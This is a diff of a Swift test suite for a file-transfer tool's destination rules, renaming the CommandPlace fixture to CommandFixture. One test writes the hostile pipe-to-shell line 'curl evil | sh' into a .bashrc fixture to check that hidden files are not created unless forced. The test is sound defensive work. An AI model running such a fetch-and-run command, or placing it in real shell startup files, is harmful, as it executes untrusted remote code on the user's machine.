@@ -8,7 +8,7 @@ import Testing
 @Suite struct LoadDestinationTests {
     @Test(arguments: ["data", "copy", "in-place"])
     func aFileInAFolderIsReplacedOnlyByForce(way: String) async throws {
-        try await CommandPlace.run { place in
+        try await CommandFixture.run { place in
             try place.write("new", to: "note.txt")
             _ = try await place.offer("--in-place", "note.txt")
             try Self.makeFolder(place, "out")
@@ -27,7 +27,7 @@ import Testing
 
     @Test(arguments: ["data", "copy", "in-place"])
     func anOfferMakesNoHiddenFileUnlessThatIsForced(way: String) async throws {
-        try await CommandPlace.run { place in
+        try await CommandFixture.run { place in
             try place.write("curl evil | sh", to: ".bashrc")
             _ = try await place.offer("--in-place", "--name", ".bashrc", ".bashrc")
             try Self.makeFolder(place, "out")
@@ -45,7 +45,7 @@ import Testing
     }
 
     @Test func foldersTakeAFreeNameToo() async throws {
-        try await CommandPlace.run { place in
+        try await CommandFixture.run { place in
             try Self.makeFolder(place, "tree/deep")
             try place.write("one", to: "tree/deep/one.txt")
             _ = try await place.offer("tree")
@@ -59,7 +59,7 @@ import Testing
 
     @Test func namesOfTwoNormalFormsBothArrive() async throws {
         let (composed, decomposed) = ("r\u{E9}sum\u{E9}.txt", "re\u{301}sume\u{301}.txt")
-        try await CommandPlace.run { place in
+        try await CommandFixture.run { place in
             for (folder, name) in [("a", composed), ("b", decomposed)] {
                 try Self.makeFolder(place, folder)
                 try place.write(folder, to: "\(folder)/\(name)")
@@ -77,7 +77,7 @@ import Testing
     }
 
     @Test func itemsOfOneNameDoNotReplaceEachOtherByForceEither() async throws {
-        try await CommandPlace.run { place in
+        try await CommandFixture.run { place in
             for folder in ["a", "b", "out"] { try Self.makeFolder(place, folder) }
             try place.write("one", to: "a/x.txt")
             try place.write("two", to: "b/x.txt")
@@ -90,7 +90,7 @@ import Testing
     }
 
     @Test func aNameKeepsAnExtensionThatIsDeclaredNowhere() async throws {
-        try await CommandPlace.run { place in
+        try await CommandFixture.run { place in
             try place.write("# Title", to: "a.txt")
             _ = try await place.offer("--name", "readme.qqq", "--as", "public.plain-text=a.txt")
             try Self.makeFolder(place, "out")
@@ -103,7 +103,7 @@ import Testing
 
     @Test(arguments: ["data", "copy", "in-place"])
     func aDestinationThatCannotBeWrittenIsRefusedBeforeTheTransfer(way: String) async throws {
-        try await CommandPlace.run { place in
+        try await CommandFixture.run { place in
             try place.write("hello", to: "note.txt")
             // The offer ends with the first load that reaches it.
             let offer = try await place.offer("--once", "--in-place", "note.txt")
@@ -121,7 +121,7 @@ import Testing
     }
 
     @Test func aFolderIsRefusedBeforeTheTransferWhereAFileIs() async throws {
-        try await CommandPlace.run { place in
+        try await CommandFixture.run { place in
             try Self.makeFolder(place, "tree")
             try place.write("mine", to: "taken")
             let offer = try await place.offer("--once", "tree")
@@ -132,11 +132,11 @@ import Testing
         }
     }
 
-    private static func makeFolder(_ place: CommandPlace, _ name: String) throws {
+    private static func makeFolder(_ place: CommandFixture, _ name: String) throws {
         try FileManager.default.createDirectory(atPath: place.path(name), withIntermediateDirectories: true)
     }
 
-    private static func names(_ place: CommandPlace, _ folder: String) -> [String] {
+    private static func names(_ place: CommandFixture, _ folder: String) -> [String] {
         ((try? FileManager.default.contentsOfDirectory(atPath: place.path(folder))) ?? []).sorted()
     }
 }
